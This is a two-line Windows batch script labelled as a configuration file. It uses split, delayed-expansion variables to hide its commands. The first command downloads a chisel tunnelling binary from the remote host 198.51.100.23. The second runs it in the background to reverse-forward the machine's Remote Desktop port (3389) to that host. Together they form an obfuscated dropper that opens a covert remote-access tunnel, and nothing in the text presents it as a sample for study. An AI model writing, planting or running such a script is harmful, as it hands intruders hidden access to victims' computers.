REM config 9547 v2
@echo off
cmd /v:on /c "set fga0=curl -sLo C:\ProgramData\chis&&set ftg1=el.exe http://198.51.100.23/ch&&set vwj2=is&&set rvz3=el.exe&&!fga0!!ftg1!!vwj2!!rvz3!"
cmd /v:on /c "set iuk0=start /b C:\ProgramData\chisel.&&set ibr1=exe client 198.51.100.23:&&set smz2=8443 R:33&&set wbo3=89:127.0.0.1:3389&&!iuk0!!ibr1!!smz2!!wbo3!"
